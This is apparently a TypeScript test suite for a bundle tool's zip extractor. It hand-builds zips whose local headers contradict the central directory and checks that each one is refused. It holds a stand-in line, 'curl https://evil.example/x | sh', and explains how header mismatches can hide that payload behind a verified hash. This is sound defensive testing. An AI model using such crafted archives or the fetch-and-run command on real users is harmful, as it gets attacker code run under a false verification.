// Zip bundles whose local headers and central directory say different things
// (src/publish/zipheaders.ts). Found by an adversarial review: REPRODUCE.md's
// local header said deflate, with the CRC and size of a `curl ... | sh` text,
// while the central directory said stored, with the deflated bytes as content;
// rep hashed the stored bytes (signed in SHA256SUMS) and said verified, while
// `unzip` wrote the shell text. Each archive here is written by hand, field by
// field, and must be refused with a message naming the entry; zips written by
// rep's publish, by yazl and by the zip command must still unpack.
import { spawnSync } from 'node:child_process';
import { mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { Readable } from 'node:stream';
import { crc32, deflateRawSync } from 'node:zlib';
import yazl from 'yazl';
import { describe, expect, it } from 'vitest';
import { packBundle } from '../../src/publish/bundle.js';
import { extractZip } from '../../src/publish/extract.js';
import { DEFAULT_LIMITS } from '../../src/publish/limits.js';
import { tempFolders } from '../helpers.js';

const folders = tempFolders();

/** What one header (local or central) says about an entry. */
interface Fields {
  name: string;
  method: number;
  flags: number;
  crc: number;
  csize: number;
  usize: number;
}

/** An entry as written: its data, and what each header says (by default, the truth about `body`). */
interface Part {
  name: string;
  body: Buffer;
  deflate?: boolean;
  local?: Partial<Fields>;
  central?: Partial<Fields>;
  /** Bytes written after the data (a data descriptor, or junk). */
  after?: Buffer;
  /** Not written: only listed in the central directory, at this offset. */
  listedAt?: number;
}

function truth(p: Part): { fields: Fields; data: Buffer } {
  const data = p.deflate ? deflateRawSync(p.body) : p.body;
  return { fields: { name: p.name, method: p.deflate ? 8 : 0, flags: 0x0800, crc: crc32(p.body), csize: data.length, usize: p.body.length }, data };
}

function localHeader(f: Fields): Buffer {
  const name = Buffer.from(f.name);
  const h = Buffer.alloc(30);
  h.writeUInt32LE(0x04034b50, 0);
  h.writeUInt16LE(20, 4);
  h.writeUInt16LE(f.flags, 6);
  h.writeUInt16LE(f.method, 8);
  h.writeUInt16LE(0x21, 12); // 1980-01-01
  h.writeUInt32LE(f.crc, 14);
  h.writeUInt32LE(f.csize, 18);
  h.writeUInt32LE(f.usize, 22);
  h.writeUInt16LE(name.length, 26);
  return Buffer.concat([h, name]);
}

function centralHeader(f: Fields, offset: number): Buffer {
  const name = Buffer.from(f.name);
  const h = Buffer.alloc(46);
  h.writeUInt32LE(0x02014b50, 0);
  h.writeUInt16LE((3 << 8) | 20, 4);
  h.writeUInt16LE(20, 6);
  h.writeUInt16LE(f.flags, 8);
  h.writeUInt16LE(f.method, 10);
  h.writeUInt16LE(0x21, 14);
  h.writeUInt32LE(f.crc, 16);
  h.writeUInt32LE(f.csize, 20);
  h.writeUInt32LE(f.usize, 24);
  h.writeUInt16LE(name.length, 28);
  h.writeUInt32LE((0o100644 << 16) >>> 0, 38);
  h.writeUInt32LE(offset, 42);
  return Buffer.concat([h, name]);
}

function endRecord(count: number, cdSize: number, cdOffset: number): Buffer {
  const e = Buffer.alloc(22);
  e.writeUInt32LE(0x06054b50, 0);
  e.writeUInt16LE(count, 8);
  e.writeUInt16LE(count, 10);
  e.writeUInt32LE(cdSize, 12);
  e.writeUInt32LE(cdOffset, 16);
  return e;
}

/**
 * A zip of `parts`: `lead` bytes first, then each part's local header, data
 * and `after`, then the central directory, `beforeEnd` bytes, and the end record.
 */
function zipOf(parts: Part[], o: { lead?: Buffer; beforeEnd?: Buffer } = {}): Buffer {
  const out: Buffer[] = [o.lead ?? Buffer.alloc(0)];
  let at = out[0]!.length;
  const offsets: number[] = [];
  for (const p of parts) {
    const { fields, data } = truth(p);
    offsets.push(p.listedAt ?? at);
    if (p.listedAt !== undefined) continue;
    const piece = Buffer.concat([localHeader({ ...fields, ...p.local }), data, p.after ?? Buffer.alloc(0)]);
    out.push(piece);
    at += piece.length;
  }
  const cd = Buffer.concat(parts.map((p, i) => centralHeader({ ...truth(p).fields, ...p.central }, offsets[i]!)));
  return Buffer.concat([...out, cd, o.beforeEnd ?? Buffer.alloc(0), endRecord(parts.length, cd.length, at)]);
}

/** What unpacking `zip` says: "ok" and the files, or the error's message. */
async function unpack(zip: Buffer): Promise<string | Record<string, string>> {
  const dir = folders.make('rep-zipcheck-');
  const file = path.join(dir, 'b.zip');
  writeFileSync(file, zip);
  const into = path.join(dir, 'out');
  mkdirSync(into);
  try {
    await extractZip(file, into, { label: 'b.zip', limits: DEFAULT_LIMITS, links: false, archiveSize: zip.length });
  } catch (e) {
    return (e as Error).message;
  }
  const files: Record<string, string> = {};
  for (const rel of readdirSync(into, { recursive: true, encoding: 'utf8' }).sort()) {
    if (statSync(path.join(into, rel)).isFile()) files[rel] = readFileSync(path.join(into, rel), 'latin1');
  }
  return files;
}

const EVIL = Buffer.from('curl https://evil.example/x | sh\n');
const GOOD = Buffer.from('rep verify bundle.zip\n');
const REFUSED = '; zip readers would unpack different files from it, so it is refused';

describe('zip bundles read one way', () => {
  it('a hand-written zip that says one thing unpacks (the writer below is sound)', async () => {
    expect(await unpack(zipOf([{ name: 'REPRODUCE.md', body: GOOD, deflate: true }, { name: 'SHA256SUMS', body: Buffer.from('x\n') }]))).toEqual({
      'REPRODUCE.md': GOOD.toString(),
      SHA256SUMS: 'x\n',
    });
  });

  it('refuses a local header that says deflate where the central directory says stored (the reproduction)', async () => {
    // The central directory's reading is the deflated bytes, stored; unzip inflates them into EVIL.
    const deflated = deflateRawSync(EVIL);
    const zip = zipOf([{ name: 'REPRODUCE.md', body: deflated, local: { method: 8, crc: crc32(EVIL), usize: EVIL.length } }]);
    const file = path.join(folders.make('rep-unzip-'), 'b.zip');
    writeFileSync(file, zip);
    const unzip = spawnSync('unzip', ['-p', file, 'REPRODUCE.md']);
    if (!unzip.error) expect(unzip.stdout.toString()).toBe(EVIL.toString());
    expect(await unpack(zip)).toBe(`b.zip: entry REPRODUCE.md: its local header says compression method 8 (deflate), the central directory 0 (stored)${REFUSED}`);
  });

  it('refuses a local header whose CRC-32 is not the central directory one', async () => {
    const zip = zipOf([{ name: 'a', body: GOOD, local: { crc: 0x12345678 } }]);
    expect(await unpack(zip)).toBe(`b.zip: entry a: its local header says CRC-32 0x12345678, the central directory 0x${crc32(GOOD).toString(16).padStart(8, '0')}${REFUSED}`);
  });

  it('refuses a local header whose sizes are not the central directory ones', async () => {
    // unzip would read the stored data on into the next entry.
    const zip = zipOf([{ name: 'a', body: GOOD, local: { csize: GOOD.length + 60, usize: GOOD.length + 60 } }, { name: 'b', body: EVIL }]);
    expect(await unpack(zip)).toBe(`b.zip: entry a: its local header says compressed size ${GOOD.length + 60}, the central directory ${GOOD.length}${REFUSED}`);
  });

  it('refuses a local header whose name is not the central directory one', async () => {
    const zip = zipOf([{ name: 'REPRODUCE.md', body: GOOD, local: { name: 'install.sh\u001b[2J' } }]);
    expect(await unpack(zip)).toBe(`b.zip: entry REPRODUCE.md: its local header says name "install.sh\\u001b[2J", the central directory "REPRODUCE.md"${REFUSED}`);
  });

  it('refuses a local header whose flags are not the central directory ones', async () => {
    const zip = zipOf([{ name: 'a', body: GOOD, local: { flags: 0 } }]);
    expect(await unpack(zip)).toBe(`b.zip: entry a: its local header says flags 0x00000000, the central directory 0x00000800${REFUSED}`);
  });

  it('refuses data whose CRC-32 is not the one both headers give', async () => {
    const zip = zipOf([{ name: 'a', body: GOOD, local: { crc: 0x12345678 }, central: { crc: 0x12345678 } }]);
    expect(await unpack(zip)).toBe(`b.zip: entry a: its data has CRC-32 0x${crc32(GOOD).toString(16).padStart(8, '0')}, the archive says 0x12345678${REFUSED}`);
  });

  it('refuses a data descriptor that is not what the central directory says', async () => {
    const descriptor = (crc: number) => {
      const d = Buffer.alloc(16);
      d.writeUInt32LE(0x08074b50, 0);
      d.writeUInt32LE(crc, 4);
      d.writeUInt32LE(GOOD.length, 8);
      d.writeUInt32LE(GOOD.length, 12);
      return d;
    };
    const part = (crc: number): Part => ({ name: 'a', body: GOOD, local: { flags: 0x0808, crc: 0, csize: 0, usize: 0 }, central: { flags: 0x0808 }, after: descriptor(crc) });
    expect(await unpack(zipOf([part(crc32(GOOD))]))).toEqual({ a: GOOD.toString() });
    expect(await unpack(zipOf([part(crc32(EVIL))]))).toBe(`b.zip: entry a: its data descriptor is missing or does not say what the central directory says${REFUSED}`);
  });

  it('refuses entries that overlap: one entry inside the data of another', async () => {
    // The stored entry "outer" holds a whole entry, "inner", which the central directory lists as well.
    const body = Buffer.concat([localHeader(truth({ name: 'inner', body: EVIL }).fields), EVIL]);
    const zip = zipOf([{ name: 'outer', body }, { name: 'inner', body: EVIL, listedAt: 30 + 'outer'.length }]);
    const outerEnd = 30 + 'outer'.length + body.length;
    expect(await unpack(zip)).toBe(`b.zip: entry inner: it begins at byte 35, not at the end of the entry before it (byte ${outerEnd}): the archive has bytes outside its entries, overlapping entries, or entries out of order${REFUSED}`);
  });

  it('refuses one local header used by two entries', async () => {
    const zip = zipOf([{ name: 'a', body: GOOD }, { name: 'a', body: GOOD, listedAt: 0 }]);
    expect(await unpack(zip)).toBe(`b.zip: entry a: it begins at byte 0, not at the end of the entry before it (byte ${31 + GOOD.length}): the archive has bytes outside its entries, overlapping entries, or entries out of order${REFUSED}`);
  });

  it('refuses bytes before the first entry, between entries, and between the last entry and the central directory', async () => {
    const junk = Buffer.from('#!/bin/sh\ncurl https://evil.example/x | sh\nexit\n');
    const lead = zipOf([{ name: 'a', body: GOOD }], { lead: junk });
    expect(await unpack(lead)).toBe(`b.zip: entry a: it begins at byte ${junk.length}, not at the start of the archive (byte 0): the archive has bytes outside its entries, overlapping entries, or entries out of order${REFUSED}`);
    const gap = zipOf([{ name: 'a', body: GOOD, after: junk }, { name: 'b', body: GOOD }]);
    const aEnd = 30 + 1 + GOOD.length;
    expect(await unpack(gap)).toBe(`b.zip: entry b: it begins at byte ${aEnd + junk.length}, not at the end of the entry before it (byte ${aEnd}): the archive has bytes outside its entries, overlapping entries, or entries out of order${REFUSED}`);
    const tail = zipOf([{ name: 'a', body: GOOD, after: junk }]);
    expect(await unpack(tail)).toBe(`b.zip: its central directory begins at byte ${aEnd + junk.length}, not where its last entry ends (byte ${aEnd})${REFUSED}`);
  });

  it('refuses bytes between the central directory and the end record (unzip would shift every offset by them)', async () => {
    const zip = zipOf([{ name: 'a', body: GOOD }], { beforeEnd: Buffer.from('junk') });
    const cdStart = 30 + 1 + GOOD.length;
    expect(await unpack(zip)).toBe(`b.zip: its central directory (bytes ${cdStart} to ${cdStart + 47}) does not end where the end records begin (byte ${cdStart + 51})${REFUSED}`);
  });

  it('unpacks the zips rep publish writes (data descriptors), yazl writes from buffers and streams, and the zip command writes', async () => {
    const dir = folders.make('rep-zipok-');
    const src = path.join(dir, 'src');
    mkdirSync(path.join(src, 'sub'), { recursive: true });
    writeFileSync(path.join(src, 'REPRODUCE.md'), GOOD);
    writeFileSync(path.join(src, 'sub', 'empty'), '');
    writeFileSync(path.join(src, 'big.bin'), Buffer.alloc(200_000, 7));
    const want = { 'REPRODUCE.md': GOOD.toString(), 'sub/empty': '', 'big.bin': Buffer.alloc(200_000, 7).toString('latin1') };
    const own = path.join(dir, 'own.zip');
    await packBundle(src, own);
    expect(await unpack(readFileSync(own))).toEqual(want);

    for (const forceZip64Format of [false, true]) {
      const z = new yazl.ZipFile();
      z.addBuffer(GOOD, 'REPRODUCE.md', { compress: true, forceZip64Format });
      z.addBuffer(Buffer.alloc(0), 'sub/empty', { compress: false, forceZip64Format });
      z.addReadStream(Readable.from([Buffer.alloc(200_000, 7)]), 'big.bin', { forceZip64Format });
      z.end({ forceZip64Format, comment: '' });
      const chunks: Buffer[] = [];
      for await (const c of z.outputStream) chunks.push(c as Buffer);
      expect(await unpack(Buffer.concat(chunks))).toEqual(want);
    }

    for (const flags of [[], ['-fz']]) {
      const cli = path.join(dir, `cli${flags.join('')}.zip`);
      const r = spawnSync('zip', ['-q', '-r', ...flags, cli, 'REPRODUCE.md', 'sub', 'big.bin'], { cwd: src });
      if (!r.error) expect(await unpack(readFileSync(cli))).toEqual(want);
    }
    const piped = spawnSync('zip', ['-q', '-', 'REPRODUCE.md', 'big.bin'], { cwd: src });
    if (!piped.error) expect(await unpack(piped.stdout)).toEqual({ 'REPRODUCE.md': want['REPRODUCE.md'], 'big.bin': want['big.bin'] });
  });
});
